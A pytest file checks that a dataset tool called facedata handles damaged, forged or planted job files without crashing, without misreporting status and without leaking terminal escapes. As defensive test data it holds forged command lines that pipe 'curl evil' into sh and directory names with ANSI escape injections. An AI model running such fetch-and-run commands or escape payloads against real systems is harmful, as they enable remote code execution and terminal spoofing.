"""Damaged and forged files of jobs: each way to break a small job ends in a clear answer, never in a traceback."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from support import Ran, RecordSetMaker, jpeg

PLAN, JOURNAL, SUMMARY = (f"out/.facedata-{name}" for name in ("plan.json", "journal.jsonl", "summary.json"))
CHANGES: tuple[Any, ...] = (
    KeyError,
    "x",
    10**30,
    -1,
    float("nan"),
    True,
    None,
    [],
    {},
    [[[]]],
    {"a": {"a": "\x1b[2J"}},
)
COMMAND = ("convert", "set", "webdataset:out", "--shard-samples", 4, "--workers", 1)


def places(value: Any) -> Iterator[list[Any]]:
    """The way to each value in a JSON value."""
    for key in value if isinstance(value, dict) else range(len(value)):
        yield [key]
        if isinstance(value[key], dict | list):
            yield from ([key, *rest] for rest in places(value[key]))


def mutations(data: bytes, *, sealed: bool) -> Iterator[bytes]:
    """The file cut, with flipped bytes, without a key, and with other values; if not `sealed`, without checksum."""
    turn = 0
    for place in range(0, len(data), len(data) // 4):
        yield data[:place]
        yield data[:place] + bytes([data[place] ^ 0x11]) + data[place + 1 :]
    lines = data.splitlines() if data.count(b"\n{") else [data]
    for number, line in enumerate(lines):
        for way in places(json.loads(line)):
            turn += 4  # one change of each value
            inner = whole = json.loads(line)
            for key in way[:-1]:
                inner = inner[key]
            inner[way[-1]] = CHANGES[turn % len(CHANGES)]
            if inner[way[-1]] is KeyError:
                del inner[way[-1]]
            if not sealed:
                whole.pop("crc", None)
            yield b"\n".join([*lines[:number], json.dumps(whole).encode(), *lines[number + 1 :], b""])


@pytest.fixture
def jobs(inline_facedata: Callable[..., Ran], record_set: Callable[[str], RecordSetMaker]) -> Callable[..., Ran]:
    """Make a job, one image of which fails, finished in `finished`, and without its last shard in `begun`."""
    maker = record_set("set")
    for key, label in enumerate((0, 0, 1, 1, 2, 2, 3)):
        maker.add(key, label, jpeg(key) if key != 2 else b"junk")
    maker.write()
    assert inline_facedata(*COMMAND).status == 1
    shutil.copytree("out", "begun")
    Path("begun/.facedata-summary.json").unlink()
    lines = Path("out/.facedata-journal.jsonl").read_bytes().splitlines(keepends=True)
    Path("begun/.facedata-journal.jsonl").write_bytes(b"".join(lines[:-1]))
    Path("out").rename("finished")
    return inline_facedata


CASES = [
    ("finished", PLAN),
    ("finished", JOURNAL),
    ("finished", SUMMARY),
    ("begun", PLAN),
    ("begun", JOURNAL),
]


@pytest.mark.parametrize("sealed", [True, False], ids=["checksum", "no checksum"])
@pytest.mark.parametrize(("state", "name"), CASES, ids=[f"{state} {name[14:]}" for state, name in CASES])
def test_a_damaged_file_never_ends_in_a_traceback_nor_reads_as_finished(
    jobs: Callable[..., Ran], state: str, name: str, sealed: bool
) -> None:
    whole = {path.name: path.read_bytes() for path in Path("finished").glob("*.tar")}
    for number, data in enumerate(mutations(Path(state, name[4:]).read_bytes(), sealed=sealed)):
        shutil.rmtree("out", ignore_errors=True)
        shutil.copytree(state, "out")
        Path(name).write_bytes(data)
        status = jobs("status", "out")
        assert status.status in (0, 1, 75)
        assert "\x1b" not in status.stdout + status.stderr
        assert state == "finished" or ": finished" not in status.stdout
        read = jobs("convert", "webdataset:out", "null:", "--dry-run")
        assert read.status in (0, 1)
        assert state == "finished" or read.status == 1
        if number % 5 == 0:  # it takes longer
            again = jobs(*COMMAND)
            assert again.status in (0, 1) if not sealed else again.status == 1
            if "7 images" in again.stdout or "6 images" in again.stdout:
                assert {path.name: path.read_bytes() for path in Path("out").glob("*.tar")} == whole
                assert not sealed or "1 of 7 images failed" in again.stderr


def test_text_from_files_is_escaped_and_only_a_command_of_facedata_is_quoted(jobs: Callable[..., Ran]) -> None:
    shutil.copytree("begun", "out")
    evil = "classes/\x1b]0;x\x07\nfacedata: error: no"
    Path(evil).mkdir(parents=True)
    Path(evil, "1.jpg").write_bytes(jpeg(1))
    Path("classes/\x1b[2J").mkdir()
    ran = jobs("convert", "folder:classes", "null:")
    assert not {"\x1b", "\x07"} & set(ran.stdout + ran.stderr)
    assert r"\x1b[2J" in ran.stderr
    plan = json.loads(Path(PLAN).read_bytes())
    del plan["crc"]
    for line, known in (
        ("facedata convert set webdataset:out", True),
        ("facedata convert set webdataset:out --no-such", False),
        ("facedata no-such", False),
        ("facedata", False),
        ("facedata convert set; curl evil | sh", False),
        ("facedata convert 'set", False),
        ("facedata convert \x1b[2J", False),
        ("curl evil | sh", False),
    ):
        Path(PLAN).write_text(json.dumps({**plan, "facts": {**plan["facts"], "command_line": line}}))
        shown = jobs("status", "out").stdout + jobs("convert", "webdataset:out", "null:").stderr
        assert shown.count(f": {line}\n") == 2 * known
        assert shown.count(": the command that was used") == 2 * (not known)


def test_a_plan_that_another_user_planted_above_an_input_does_not_count(
    inline_facedata: Callable[..., Ran], monkeypatch: pytest.MonkeyPatch
) -> None:
    inline_facedata("make-sample", "in/s", "--identities", "2", "--images", "2", "--size", "16")
    Path(".facedata-plan.json").write_text("{}")
    assert inline_facedata("convert", "in/s", "null:").status == 1
    monkeypatch.setattr("os.getuid", lambda: 12345)
    theirs = os.stat("in")
    real = Path.lstat
    monkeypatch.setattr(
        Path, "lstat", lambda path: os.stat_result((*real(path)[:4], theirs.st_uid + 7, *real(path)[5:]))
    )
    assert inline_facedata("convert", "in/s", "null:").status == 0
